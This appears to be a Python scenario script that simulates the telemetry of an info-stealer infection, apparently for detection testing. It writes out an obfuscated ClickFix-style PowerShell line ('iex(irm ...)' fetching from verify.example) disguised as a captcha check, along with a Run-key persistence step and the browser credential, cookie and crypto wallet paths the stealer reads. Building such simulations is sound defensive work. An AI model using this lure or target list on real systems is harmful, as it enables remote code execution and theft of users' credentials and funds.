"""A loader that the user pastes into the Run dialog: PowerShell fetches an archive and unpacks a program that borrows a maker's
name with a library beside it; that one reads browsers and wallets. The archive comes over TLS, so a little more is received
than written."""
from scenery import Desktop

SETTING = {"start": "2024-11-20T14:20:03", "user": "RECEPCION\\ana maria", "home": "C:\\Users\\ana maria",
           "computer": "RECEPCION", "os_version": (10, 0, 22631)}
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
SERVER, GATE = ("203.0.113.141", 443), ("203.0.113.142", 443)


def fetch(c, shell, path, blocks):
    c.net(shell, "Connect", SERVER, 49211)
    c.net(shell, "Send", SERVER, 49211, 300)
    c.open(shell, path, 0x120116, 5, 2, 0x60, 1)
    for number in range(blocks):
        c.net(shell, "Receive", SERVER, 49211, 16_413)
        c.write_at(shell, path, number * 16_384, 16_384)
    c.close(shell, path)
    c.net(shell, "Disconnect", SERVER, 49211)


def story(c):
    desktop = Desktop(c)
    local, roaming = c.home + r"\AppData\Local", c.home + r"\AppData\Roaming"
    desktop.murmur(6)
    line = "-w h -NoP \"$r='ht'+'tps://verify.example/x';iex(irm $r)\" # I am not a robot - 7812"
    c.set_value(desktop.explorer, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU\c", "REG_SZ",
                "PoWeRsHeLl %s\\1" % line)
    shell = c.spawn(desktop.explorer, c.system_root + r"\System32\WindowsPowerShell\v1.0\powershell.exe",
                    '"C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe" ' + line,
                    company="Microsoft Corporation")
    c.exchange(shell, SERVER, 49210, [517], [4096])
    fetch(c, shell, local + r"\Temp\h7sk2.zip", 30)
    home = roaming + r"\Vq8sT"
    c.folder(shell, home)
    c.drop(shell, home + r"\VideoAssist.exe", 210_000)
    c.drop(shell, home + r"\sqlite3.dll", 330_000)
    host = c.spawn(shell, home + r"\VideoAssist.exe", is_64bit=False, company="Filmora Tools", version="4.1")
    c.load(host, home + r"\sqlite3.dll")
    c.set_value(shell, RUN + r"\VideoAssist", "REG_SZ", home + r"\VideoAssist.exe")
    c.exit(shell)
    for browser in (r"\Google\Chrome", r"\Microsoft\Edge"):
        c.read(host, local + browser + r"\User Data\Default\Login Data", 40_960)
        c.read(host, local + browser + r"\User Data\Default\Network\Cookies", 81_920)
    for place in (r"\Exodus\exodus.wallet", r"\Electrum\wallets", r"\atomic\Local Storage\leveldb", r"\Ethereum\keystore"):
        c.probe(host, roaming + place, "PATH NOT FOUND")
    c.exchange(host, GATE, 49220, [517, 90_000], [240])
    c.exit(host)
    desktop.murmur(4)
